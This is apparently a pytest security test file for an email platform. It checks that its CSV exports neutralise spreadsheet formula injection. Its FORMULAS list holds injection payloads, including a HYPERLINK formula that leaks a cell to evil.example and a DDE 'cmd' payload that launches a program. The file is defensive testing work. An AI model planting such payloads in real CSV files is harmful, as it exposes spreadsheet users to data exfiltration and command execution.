"""CSV formula injection: a cell someone else wrote (an import line, a contact attribute, an
address) that begins with = + - @ (or a tab) must not reach a spreadsheet as a formula from
any CSV the platform hands out: the refused lines of a browser import, `contacts export`, the
suppression list export. Each such cell is written behind an apostrophe, and an export
imports back unchanged."""

from __future__ import annotations

import csv
import io
import time

import httpx2

from clearpixel.deliverability import suppression
from tests.security.conftest import signed_in

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]


def formula_cells(text: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    ]


def _upload(browser, list_id: int, data: bytes) -> str:
    page = browser.http.post(
        "/admin/import",
        data={"csrf": browser.csrf(), "list_id": str(list_id)},
        files={"file": ("people.csv", data, "text/csv")},
    )
    assert page.status_code == 200, page.text[:500]
    return page.text.split('action="/admin/import/')[1].split("/run")[0]


def _run(browser, token: str, list_id: int) -> dict:
    started = browser.post(
        f"/admin/import/{token}/run",
        {"list_id": str(list_id), "flags_mode": "merge", "skip_invalid": "on"},
    )
    assert started.status_code == 303
    for _ in range(200):
        state = browser.get(f"/admin/import/{token}/progress").json()
        if state["finished"]:
            return state
        time.sleep(0.05)
    raise AssertionError("the import did not finish")


def test_refused_lines_download_holds_no_formula(installation):
    editor = signed_in(installation, "ed@example.org")
    lines = ["email,=HEADER()", *(f'"{f.replace(chr(34), chr(34) * 2)}",x' for f in FORMULAS)]
    lines += ['good@example.org,"=1+1"']
    news = installation.lists["news"]
    token = _upload(editor, news, ("\n".join(lines) + "\n").encode())
    state = _run(editor, token, news)
    assert state["error"] is None and state["report"]["rejected"] == len(FORMULAS)
    refused = editor.get(f"/admin/import/{token}/refused.csv")
    assert refused.status_code == 200 and refused.headers["content-type"].startswith("text/csv")
    assert formula_cells(refused.text) == []
    assert "'=HEADER()" in refused.text and "'=cmd|" in refused.text


def test_contacts_export_holds_no_formula_and_imports_back_unchanged(cli, tmp_path):
    cli("lists", "create", "one")
    cli("lists", "create", "two")
    source = tmp_path / "in.csv"
    with source.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["email", "note", "=col"])
        for i, formula in enumerate(FORMULAS):
            writer.writerow([f"p{i}@example.org", formula, formula])
        writer.writerow(["-dash@example.org", "'kept as it was", "plain"])
    cli("contacts", "import", str(source), "--list", "one")
    exported = cli("contacts", "export", "--list", "one").stdout
    assert formula_cells(exported) == []
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    cli("contacts", "import", str(again), "--list", "two")
    assert cli("contacts", "export", "--list", "two").stdout == exported
    back = {r["email"]: r for r in csv.DictReader(io.StringIO(exported))}
    assert "'-dash@example.org" in back  # as a spreadsheet shows it: -dash@example.org


def test_suppression_export_holds_no_formula(ctx, installation):
    for address in ("-x@example.org", "+y@example.org", "=z@example.org"):
        suppression.add(ctx, address, reason="manual", actor="=HYPERLINK(1)")
    answer = httpx2.get(
        f"{installation.url}/api/v1/suppressions/export",
        headers={"Authorization": f"Bearer {installation.keys['auditor']}"},
    )
    assert answer.status_code == 200
    assert formula_cells(answer.text) == []
    assert answer.text.count("'") >= 6
